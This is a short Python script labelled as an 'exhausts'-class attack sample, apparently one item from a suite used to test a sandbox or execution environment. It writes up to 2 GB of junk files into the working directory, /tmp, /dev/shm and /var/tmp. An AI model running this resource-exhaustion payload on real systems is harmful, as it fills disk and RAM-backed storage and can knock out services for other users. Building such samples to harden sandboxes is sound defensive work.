# class: exhausts
# what: writes up to 2 GB in many files
import os
for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
    for index in range(500):
        try:
            with open(os.path.join(folder, f"gancourse-attack-{index}"), "wb") as file:
                file.write(b"x" * 2**20)
        except OSError:
            break
